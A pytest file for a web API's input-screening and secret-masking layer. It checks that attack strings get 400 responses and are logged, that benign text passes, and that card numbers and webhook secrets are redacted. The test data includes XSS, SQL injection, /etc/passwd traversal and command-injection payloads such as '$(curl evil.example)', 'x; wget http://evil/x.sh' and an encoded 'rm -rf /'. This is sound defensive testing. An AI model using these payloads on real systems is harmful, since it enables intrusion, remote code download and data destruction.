"""Input screening: both corpora (hostile all caught, benign all pass), and over HTTP: refused
with 400 and the field, recorded as an incident, free text sanitised, webhooks untouched."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from litestar.testing import AsyncTestClient

from api.app import create_app
from api.protection.screening import find_threat
from api.settings import Settings
from tests.factories import make_event, post_event, subscription
from tests.protection.helpers import auth, demo, incidents

CORPUS = Path(__file__).with_name("corpus")
HOSTILE = [line for line in (CORPUS / "hostile.txt").read_text(encoding="utf-8").splitlines() if line]
BENIGN = [line for line in (CORPUS / "benign.txt").read_text(encoding="utf-8").splitlines() if line]


def test_the_corpora_are_big_enough() -> None:
    assert len(set(HOSTILE)) >= 200
    assert len(set(BENIGN)) >= 200


def test_every_hostile_string_is_caught() -> None:
    missed = [s for s in HOSTILE if find_threat(s, "x", 2000) is None]
    assert missed == []


def test_every_benign_string_passes() -> None:
    flagged = {s: t.kind for s in BENIGN if (t := find_threat(s, "x", 2000)) is not None}
    assert flagged == {}


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("report.pdf\x00.exe", "path_traversal"),
        ("x" * 2001, "oversized"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
        ("1' OR '1'='1", "sql_injection"),
        ("; cat /etc/passwd", "path_traversal"),
        ("$(curl evil.example)", "command_injection"),
    ],
)
def test_kinds(value: str, kind: str) -> None:
    threat = find_threat(value, "body.name", 2000)
    assert threat is not None
    assert threat.kind == kind


async def test_attacks_are_refused_and_recorded(sqlite_only: Settings, tmp_path: Path) -> None:
    settings = demo(sqlite_only, tmp_path, block_after_incidents=0)
    me = auth(settings, "mallory")
    async with AsyncTestClient(create_app(settings)) as client:
        in_body = await client.post(
            "/api/usage", json={"feature": "api_calls", "x": "<script>alert(1)</script>"}, headers=me
        )
        in_key = await client.post("/api/usage", json={"' OR 1=1--": 1}, headers=me)
        in_query = await client.get("/api/usage?filter=../../etc/passwd", headers=me)
        in_path = await client.post(
            "/api/admin/events/%3B%20rm%20-rf%20%2F/retry", headers=auth(settings, "root", ["admin"])
        )
        nested = await client.post(
            "/api/checkout", json={"plan": "pro", "meta": {"a": ["ok", "x; wget http://evil/x.sh"]}}, headers=me
        )
    for answer, where in (
        (in_body, "body.x"),
        (in_key, "body (a key)"),
        (in_query, "query.filter"),
        (in_path, "path.event_id"),
        (nested, "body.meta.a[1]"),
    ):
        assert answer.status_code == 400, answer.text
        problem = answer.json()
        assert problem["type"] == "urn:faddl:problem:validation"
        assert where in problem["detail"]
        assert problem["errors"][0]["key"] == where
        assert problem["request_id"] == answer.headers["x-request-id"]
    recorded = await incidents(settings)
    assert [r["kind"] for r in recorded] == [
        "xss",
        "sql_injection",
        "path_traversal",
        "command_injection",
        "command_injection",
    ]
    first = recorded[0]
    assert (first["route"], first["method"], first["user_id"]) == ("/api/usage", "POST", "mallory")
    assert first["client_ip"]
    assert first["sample"] == "<script>alert(1)</script>"


async def test_oversized_input(sqlite_only: Settings, tmp_path: Path) -> None:
    settings = demo(sqlite_only, tmp_path, block_after_incidents=0, max_body_bytes=4096, max_string_length=100)
    me = auth(settings, "big")
    async with AsyncTestClient(create_app(settings)) as client:
        long_string = await client.post("/api/checkout", json={"plan": "pro", "note": "a" * 101}, headers=me)
        huge_body = await client.post(
            "/api/subscription/cancel", content=json.dumps({"comment": "b" * 5000}), headers=me
        )
    assert long_string.status_code == 400
    assert "more text than is accepted" in long_string.json()["detail"]
    assert huge_body.status_code == 413
    assert huge_body.headers["content-type"].startswith("application/problem+json")
    assert huge_body.json()["detail"] == "The request body is over this route's limit of 4 KiB (4,096 bytes)."
    assert huge_body.json()["limit_bytes"] == 4096
    kinds = [r["kind"] for r in await incidents(settings)]
    assert kinds == ["oversized", "oversized"]
    assert all(len(r["sample"] or "") <= 200 for r in await incidents(settings))


async def test_benign_free_text_passes_and_markup_is_removed(sqlite_only: Settings, tmp_path: Path) -> None:
    settings = demo(sqlite_only, tmp_path)
    me = auth(settings, "obrien")
    async with AsyncTestClient(create_app(settings)) as client:
        started = await client.post("/api/checkout", json={"plan": "pro"}, headers=me)
        path = started.json()["url"].removeprefix(settings.public_base_url)
        await client.post(path, data={"card": "4242"})
        canceled = await client.post(
            "/api/subscription/cancel",
            json={
                "feedback": "too_expensive",
                "comment": "O'Brien here <3 — the <b>DROP-IN Café</b> plan 🙏 was great",
            },
            headers=me,
        )
        assert canceled.status_code == 200, canceled.text
    assert await incidents(settings) == []
    from sqlalchemy import select

    from api.db.engine import Database
    from api.db.models import subscription_events

    db = Database(settings)
    try:
        async with db.read() as conn:
            rows = (await conn.execute(select(subscription_events.c.type, subscription_events.c.payload))).all()
    finally:
        await db.dispose()
    requested = next(json.loads(p) for t, p in rows if t == "subscription.cancel_requested")
    assert requested["data"]["object"]["comment"] == "O'Brien here <3 — the DROP-IN Café plan 🙏 was great"
    updated = [json.loads(p) for t, p in rows if t == "customer.subscription.updated"][-1]
    details = updated["data"]["object"]["cancellation_details"]
    assert details["feedback"] == "too_expensive"
    assert details["comment"] == "O'Brien here <3 — the DROP-IN Café plan 🙏 was great"


async def test_webhooks_are_not_screened(sqlite_only: Settings) -> None:
    """Stripe payloads carry whatever customers typed; the signature is what authenticates them."""
    sub = subscription("sub_x", "cus_x", user="u_x", price="price_pro_monthly_usd")
    sub["metadata"]["note"] = "<script>alert(1)</script>; cat /etc/passwd"
    async with AsyncTestClient(create_app(sqlite_only)) as client:
        answer = await post_event(client, make_event("customer.subscription.created", sub))
    assert answer.status_code == 200, answer.text
    assert answer.json()["outcome"] == "processed"
    assert await incidents(sqlite_only) == []


async def test_unknown_query_parameters_are_refused(sqlite_only: Settings, tmp_path: Path) -> None:
    settings = demo(sqlite_only, tmp_path)
    admin = auth(settings, "ops", ["admin"])
    async with AsyncTestClient(create_app(settings)) as client:
        known = await client.get("/api/admin/events?status=dead&limit=5", headers=admin)
        unknown = await client.get("/api/admin/events?statuss=dead", headers=admin)
        none_declared = await client.get("/api/subscription?debug=1", headers=auth(settings, "q"))
        demo_page = await client.get("/demo/return?checkout=success")
    assert known.status_code == 200
    assert unknown.status_code == 400
    assert "Unknown query parameter 'statuss'" in unknown.json()["detail"]
    assert none_declared.status_code == 400
    assert demo_page.status_code == 200, "only the API's own routes are strict"


@pytest.mark.parametrize(
    ("method", "path", "signed_in"), [("GET", "/api/plans", False), ("POST", "/api/checkout", True)]
)
async def test_deep_json_is_a_400_on_any_route(
    sqlite_only: Settings, tmp_path: Path, method: str, path: str, signed_in: bool
) -> None:
    """A body nested 1,000 deep was a 500 (msgspec's RecursionError), unauthenticated routes
    included; past JSON_MAX_DEPTH it is a 400 that names the limit."""
    settings = demo(sqlite_only, tmp_path, block_after_incidents=0)
    headers = {"Content-Type": "application/json", **(auth(settings, "mallory") if signed_in else {})}
    deep = ("[" * 1000 + "]" * 1000).encode()
    async with AsyncTestClient(create_app(settings)) as client:
        response = await client.request(method, path, content=deep, headers=headers)
    assert response.status_code == 400, response.text
    assert "nested deeper" in response.json()["detail"]


async def test_the_depth_limit_is_a_setting(sqlite_only: Settings, tmp_path: Path) -> None:
    """80 levels: refused at the default of 64, let through (to the route's own answer) at 100."""
    import dataclasses

    settings = demo(sqlite_only, tmp_path, block_after_incidents=0)
    body = ('{"a":' * 80 + "1" + "}" * 80).encode()
    headers = {"Content-Type": "application/json", **auth(settings, "mallory")}
    async with AsyncTestClient(create_app(settings)) as client:
        refused = await client.post("/api/checkout", content=body, headers=headers)
    async with AsyncTestClient(create_app(dataclasses.replace(settings, json_max_depth=100))) as client:
        allowed = await client.post("/api/checkout", content=body, headers=headers)
    assert refused.status_code == 400
    assert "nested deeper" in refused.json()["detail"]
    assert "nested deeper" not in allowed.text
    assert allowed.status_code < 500, allowed.text


SECRETS = [
    line.split("\t")
    for line in (CORPUS / "secrets.tsv").read_text(encoding="utf-8").splitlines()
    if line and not line.startswith("#")
]
KEPT = ["created 1764758400", "amount 12345678901234", "order 2026-12-03 10:00", "ip 203.0.113.42"]


@pytest.mark.parametrize(("sample", "secret"), SECRETS)
def test_secrets_are_masked_wherever_they_stand(sample: str, secret: str) -> None:
    from api.logs import mask_secrets

    masked = mask_secrets(sample)
    assert secret not in masked
    assert "[redacted]" in masked


@pytest.mark.parametrize("text", KEPT)
def test_numbers_that_are_not_secrets_stay(text: str) -> None:
    from api.logs import mask_secrets

    assert mask_secrets(text) == text


async def test_incident_samples_are_masked_in_the_table_and_the_api(sqlite_only: Settings, tmp_path: Path) -> None:
    """A refused body carrying a card number and a webhook secret: neither is stored or shown."""
    settings = demo(sqlite_only, tmp_path, block_after_incidents=0)
    me = auth(settings, "mallory")
    admin = auth(settings, "ops", ["admin"])
    attack = "<script>fetch('/?c=q4242424242424242&k=whsec_1234567890abcdef')</script>"
    async with AsyncTestClient(create_app(settings)) as client:
        refused = await client.post("/api/usage", json={"feature": "api_calls", "note": attack}, headers=me)
        shown = await client.get("/api/admin/security/incidents", headers=admin)
    assert refused.status_code == 400
    (stored,) = [row for row in await incidents(settings) if row["kind"] == "xss"]
    assert "4242424242424242" not in stored["sample"]
    assert "whsec_1234567890abcdef" not in stored["sample"]
    assert "[redacted]" in stored["sample"]
    assert shown.status_code == 200, shown.text
    assert "4242424242424242" not in shown.text
    assert "whsec_1234567890abcdef" not in shown.text
